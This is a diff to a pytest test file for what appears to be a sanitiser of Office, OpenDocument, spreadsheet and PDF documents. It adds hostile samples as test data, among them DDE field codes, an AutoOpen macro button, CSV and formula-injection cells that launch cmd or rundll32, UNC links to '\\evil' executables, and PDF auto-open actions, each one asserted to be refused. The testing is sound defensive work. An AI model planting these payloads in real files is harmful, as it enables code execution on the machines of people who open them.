@@ -154,6 +154,17 @@ FIELDS = {
     "printer commands": (field(code("PRINT 27 65")), "strange"),
     "printer commands that look like a date": (field(code("PRINT"), "<w:tab/>", code("DATE")), "strange"),
     "a database": (field(code("DATABASE\u2003\\d x")), "data"),
+    "spaces around its beginning": (
+        run('<w:fldChar w:fldCharType=" begin "/>', code("D"), code("DE x"), char("end")),
+        "command",
+    ),
+    "the strict language": (
+        field(code("PAGE"))
+        + '<s:fldSimple xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main" s:instr="DDE x"/>',
+        "command",
+    ),
+    "a word cut by a comment": (field("<w:instrText>DD<!-- x -->E x</w:instrText>"), "command"),
+    "a button beside a placeholder": (field(code("MACROBUTTON AutoOpen NoMacro")), "macro"),
     "a word list": (field(code("RD\u2009c:\\\\x.docx")), "object"),
 }
 HONEST_FIELDS = {
@@ -209,6 +220,7 @@ USES = {
     "a name without a space": ('<a:thing relId="r9"/>', "fetches"),
     "a stylesheet": ('<w:saveThroughXslt r:id="r9"/>', "fetches"),
     "both": ('<w:hyperlink r:id="r9"/><w:altChunk r:id="r9"/>', "fetches"),
+    "blanks in its number": ('<w:attachedTemplate r:id=" r9 "/>', "template"),
     "a link of no kind": ('<o:hyperlink r:id="r9"/>', "fetches"),
 }
 
@@ -233,6 +245,34 @@ def test_row_124_a_link_that_a_click_follows_is_taken(body: str) -> None:
         "word/_rels/x.xml.rels": relations(link("hyperlink", "https://www.un.org/")),
     }
     assert refused(parts) == ""
+
+
+PROGRAMS = (
+    "\\\\evil\\a.exe.",
+    "\\\\evil\\a.exe::$DATA",
+    "file://evil/a%2Eexe?x",
+    "c:\\a.com",
+    "ms-word:ofe|u|x",
+    "data:text/html,x",
+)
+PAGES = (
+    "www.un.org",
+    "https://un.org/a.exe",
+    "\\\\files\\a.docx",
+    "tel:+99237",
+    "un.org:8080/a",
+    "Plan 2026.xlsx#A",
+)
+
+
+@pytest.mark.parametrize("target", PROGRAMS)
+def test_row_124_a_link_that_would_run_something_is_refused(target: str) -> None:
+    assert refused({"word/_rels/document.xml.rels": relations(link("hyperlink", target))}) == "command"
+
+
+@pytest.mark.parametrize("target", PAGES)
+def test_row_124_a_link_to_a_page_or_a_file_is_taken(target: str) -> None:
+    assert refused({"word/_rels/document.xml.rels": relations(link("hyperlink", target))}) == ""
 
 
 TARGETS = {
@@ -313,6 +353,10 @@ PARTS = {
     "a source of a database": ('<table:database-source-sql table:database-name="x"/>', "data"),
     "a listener": ('<script:event-listener script:event-name="dom:load"/>', "macro"),
     "a listener of a slide": ('<presentation:event-listener presentation:action="execute"/>', "macro"),
+    "an old script": ("<text:script>x</text:script>", "macro"),
+    "a macro at an error": ('<table:error-macro table:execute="true"/>', "macro"),
+    "an object of one's own disk": ('<draw:object xlink:href="file:///C:/x.ods"/>', "object"),
+    "an address in quotation marks": (f"<w:p w:new=\"'{EVIL}'\"/>", "fetches"),
     "a frame": ('<draw:floating-frame xlink:href="a.html"/>', "object"),
     "an expression": ('<table:named-expression table:expression="of:=WEBSERVICE(&quot;x&quot;)"/>', "data"),
     "a condition": ('<table:content-validation table:condition="of:is(WEBSERVICE(&quot;x&quot;))"/>', "data"),
@@ -328,6 +372,8 @@ HONEST_PARTS = {
     "words about addresses": f'<a:cNvPr descr="{EVIL}" title="{EVIL}"/><w:docVar w:val="{EVIL}"/>',
     "words of a link": f'<hyperlink display="{EVIL}" tooltip="{EVIL}"/>',
     "a cell's words": f'<table:table-cell office:string-value="{EVIL}"/>',
+    "where a name comes from": f'<w:smartTagType w:namespaceuri="{EVIL}" w:url="{EVIL}"/>',
+    "an object within": '<draw:object xlink:href="./Object 1"/><text:section-source xlink:href="#a"/>',
     "a picture": '<draw:image xlink:href="Pictures/1.png" xlink:actuate="onLoad"/>',
     "an article cited": f'<text:bibliography-mark text:url="{EVIL}"/>',
     "a fraction": "<m:f><m:num><m:r><m:t>a|b</m:t></m:r></m:num></m:f>",
@@ -363,6 +409,8 @@ CALLS = {
     'SQL.REQUEST("DSN=x","","select")': "data",
     "'\\\\evil\\share\\[x.xlsx]Sheet1'!A1": "data",
     "INDIRECT(\"'\\\\evil\\[x.xlsx]S'!A1\")": "data",
+    "[http://evil/x.xlsx]S!A1": "data",
+    "\\\\evil\\[x.xlsx]S!A1": "data",
     'IMPORTXML("http://evil/","//a")': "data",
     'HYPERLINK("ms-msdt:/id x","a")': "command",
 }
@@ -494,6 +542,11 @@ CELLS = (
     "＝EXEC(A1)",
     "sep=^\r\na^=EXEC(A1)",
     "a|=EXEC(A1)",
+    "a\u2028=EXEC(A1)",
+    "=\tcmd|'/c calc'!A0",
+    "+-=rundll32|'URL.dll,OpenURL calc.exe'!A",
+    '+ГИПЕРССЫЛКА("http://evil")',
+    "-1+ВЕБСЛУЖБА(A1)",
     '+1+HYPERLINK("http://evil/","x")',
     "-1+_xlfn.WEBSERVICE(A1)",
 )
@@ -591,6 +644,13 @@ PDFS = {
     "a link that runs": pdf(page="/Annots[<</A<</S/URI/URI(javascript:x)>>>>]"),
     "rich media": pdf("<</S/RichMediaExecute>>"),
     "an enclosed file": pdf("<</Type/EmbeddedFile>>"),
+    "an enclosed file that doesn't say so": pdf("<</EF<</F 5 0 R>>>>", b"<</Length 1>>stream\nM\nendstream"),
+    "an action that says it is a page": pdf(catalog=f"/OpenAction<</Type/Page/S/Named/Next{GO}>>"),
+    "a number far from its object": pdf("null", catalog="/OpenAction 4 0 R")
+    + b"4%b0%bobj%bendobj" % (b" " * 900, b"%x\n" * 200, GO.encode()),
+    "a reference with a sign": pdf(GO, catalog="/OpenAction +4 0 R"),
+    "two ways to unpack": pdf(OBJECTS.replace(b"/Filter", b"/Filter/ASCIIHexDecode/Filter")),
+    "a drawing that turns": pdf("<</Type/3D/OnInstantiate 5 0 R>>"),
 }
 HONEST_PDFS = {
     "nothing": pdf(),
